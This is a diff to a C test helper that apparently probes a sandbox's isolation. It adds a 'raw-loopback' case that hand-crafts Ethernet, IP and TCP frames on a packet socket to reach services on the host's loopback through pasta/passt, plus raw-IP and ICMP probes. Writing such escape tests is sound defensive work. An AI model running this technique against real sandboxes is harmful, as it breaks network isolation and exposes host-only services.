@@ -9,21 +9,31 @@
  * may ever read.
  */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
 #include <linux/filter.h>
 #include <linux/seccomp.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/tcp.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/time.h>
 #include <sys/types.h>
 #include <sys/uio.h>
 #include <sys/sysmacros.h>
@@ -209,6 +219,144 @@ static int cap_regain(void) {
   return blocked("bounding set has neither SYS_ADMIN nor SYS_PTRACE");
 }
 
+/* ---- raw frames to the host's loopback (network: true) ----
+ * pasta and passt turn a guest's TCP SYN into a connect() on the host to the
+ * destination the frame names. The guest's kernel never routes 127.0.0.1 or
+ * 0.0.0.0 out of eth0, but a packet socket writes the frame itself: SYN to
+ * DST:PORT through the gateway's MAC, then the handshake by hand, reading
+ * the host service's first line. */
+static unsigned short ip_csum(const void *p, size_t n, unsigned long sum) {
+  const unsigned char *b = p;
+  for (; n > 1; n -= 2, b += 2)
+    sum += (b[0] << 8) | b[1];
+  if (n)
+    sum += b[0] << 8;
+  while (sum >> 16)
+    sum = (sum & 0xffff) + (sum >> 16);
+  return htons(~sum & 0xffff);
+}
+
+struct frame_path {
+  int fd;
+  struct sockaddr_ll ll;
+  unsigned char src[6], dst[6];
+  uint32_t sip, dip;
+  int sport, dport;
+};
+
+static int send_tcp(struct frame_path *f, uint32_t seq, uint32_t ack, int syn) {
+  unsigned char b[54] = {0};
+  memcpy(b, f->dst, 6);
+  memcpy(b + 6, f->src, 6);
+  b[12] = 0x08;
+  struct iphdr *ip = (void *)(b + 14);
+  ip->ihl = 5, ip->version = 4, ip->ttl = 64, ip->protocol = IPPROTO_TCP, ip->tot_len = htons(40);
+  ip->saddr = f->sip, ip->daddr = f->dip, ip->id = htons(1);
+  ip->check = ip_csum(ip, 20, 0);
+  struct tcphdr *t = (void *)(b + 34);
+  t->source = htons(f->sport), t->dest = htons(f->dport), t->seq = htonl(seq), t->ack_seq = htonl(ack);
+  t->doff = 5, t->window = htons(65000), t->syn = syn, t->ack = !syn;
+  uint32_t s = ntohl(f->sip), d = ntohl(f->dip);
+  t->check = ip_csum(t, 20, (s >> 16) + (s & 0xffff) + (d >> 16) + (d & 0xffff) + IPPROTO_TCP + 20);
+  return (int)sendto(f->fd, b, sizeof b, 0, (void *)&f->ll, sizeof f->ll);
+}
+
+static int raw_loopback(const char *dst, int port) {
+  struct frame_path f = {.sport = 40000 + getpid() % 20000, .dport = port};
+  f.fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
+  if (f.fd < 0)
+    return blocked("packet socket");
+  struct ifreq ifr = {0};
+  strcpy(ifr.ifr_name, "eth0");
+  if (ioctl(f.fd, SIOCGIFHWADDR, &ifr) < 0)
+    return blocked("no eth0 (network off)");
+  memcpy(f.src, ifr.ifr_hwaddr.sa_data, 6);
+  /* The gateway's MAC: a datagram makes the kernel ARP for it. */
+  struct sockaddr_in gw = {.sin_family = AF_INET, .sin_port = htons(9)};
+  inet_pton(AF_INET, "10.0.2.2", &gw.sin_addr);
+  int u = socket(AF_INET, SOCK_DGRAM, 0);
+  (void)sendto(u, "x", 1, 0, (void *)&gw, sizeof gw);
+  usleep(300000);
+  memset(f.dst, 0xff, 6);
+  FILE *arp = fopen("/proc/net/arp", "r");
+  char line[256];
+  while (arp && fgets(line, sizeof line, arp)) {
+    unsigned m[6];
+    char ip[64];
+    if (sscanf(line, "%63s %*s %*s %x:%x:%x:%x:%x:%x", ip, &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 7 && !strcmp(ip, "10.0.2.2"))
+      for (int i = 0; i < 6; i++)
+        f.dst[i] = (unsigned char)m[i];
+  }
+  f.ll = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
+  memcpy(f.ll.sll_addr, f.dst, 6);
+  inet_pton(AF_INET, "10.0.2.15", &f.sip);
+  inet_pton(AF_INET, dst, &f.dip);
+  if (send_tcp(&f, 1000, 0, 1) < 0)
+    return blocked("send a frame");
+  struct timeval tv = {.tv_sec = 1};
+  setsockopt(f.fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+  int acked = 0, quiet = 0;
+  while (quiet < 5) {
+    unsigned char b[2048];
+    ssize_t n = recv(f.fd, b, sizeof b, 0);
+    if (n < 0) {
+      quiet++;
+      continue;
+    }
+    if (n < 54 || b[12] != 8 || b[13] != 0)
+      continue;
+    struct iphdr *ip = (void *)(b + 14);
+    if (ip->protocol != IPPROTO_TCP || ip->saddr != f.dip)
+      continue;
+    struct tcphdr *t = (void *)(b + 14 + ip->ihl * 4);
+    if (ntohs(t->dest) != f.sport)
+      continue;
+    int head = 14 + ip->ihl * 4 + t->doff * 4, len = ntohs(ip->tot_len) + 14 - head;
+    if (t->rst) {
+      errno = ECONNREFUSED;
+      return blocked("reset");
+    }
+    if (t->syn && t->ack && !acked) {
+      acked = 1;
+      send_tcp(&f, 1001, ntohl(t->seq) + 1, 0);
+    } else if (len > 0) {
+      printf("ESCAPED: read from the host's %s:%d: %.*s\n", dst, port, len < 64 ? len : 64, b + head);
+      return 1;
+    }
+  }
+  if (acked)
+    return escaped("the host's loopback answered the handshake");
+  errno = ETIMEDOUT;
+  return blocked("no answer");
+}
+
+/* Not an attack: ping's way without CAP_NET_RAW, an ICMP datagram socket
+ * (allowed by the sandbox's ping_group_range), one echo to ADDR. */
+static int icmp_echo(const char *addr) {
+  int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+  if (fd < 0) {
+    printf("no ICMP datagram socket: %s\n", strerror(errno));
+    return 1;
+  }
+  struct sockaddr_in to = {.sin_family = AF_INET};
+  inet_pton(AF_INET, addr, &to.sin_addr);
+  unsigned char req[16] = {8, 0}; /* echo request; the kernel sets the id and the checksum */
+  if (sendto(fd, req, sizeof req, 0, (void *)&to, sizeof to) < 0) {
+    printf("send: %s\n", strerror(errno));
+    return 1;
+  }
+  struct timeval tv = {.tv_sec = 5};
+  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+  unsigned char rep[64];
+  ssize_t n = recv(fd, rep, sizeof rep, 0);
+  if (n < 1 || rep[0] != 0) {
+    printf("no echo reply: %s\n", n < 0 ? strerror(errno) : "wrong type");
+    return 1;
+  }
+  printf("echo reply from %s\n", addr);
+  return 0;
+}
+
 static int fork_survivor(void) {
   /* A double-forked, setsid daemon that renames itself: the next exec
    * looks for it (test side). */
@@ -373,6 +521,10 @@ int main(int argc, char **argv) {
   if (!strcmp(n, "cap-regain")) return cap_regain();
   if (!strcmp(n, "write")) return argc > 3 ? write_file(argv[2], argv[3]) : 2;
   if (!strcmp(n, "read")) return read_nonempty(arg);
+  if (!strcmp(n, "raw-loopback")) return argc > 3 ? raw_loopback(argv[2], atoi(argv[3])) : 2;
+  /* The blind way to the same end: a raw IP socket sends the header it is given (IPPROTO_RAW: IP_HDRINCL). */
+  if (!strcmp(n, "raw-ip")) return expect_fail(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "raw IP socket");
+  if (!strcmp(n, "icmp-echo")) return icmp_echo(arg);
   if (!strcmp(n, "survivor")) return fork_survivor();
   if (!strcmp(n, "fork-count")) return fork_count(atoi(arg));
   fprintf(stderr, "attack: unknown attack %s\n", n);
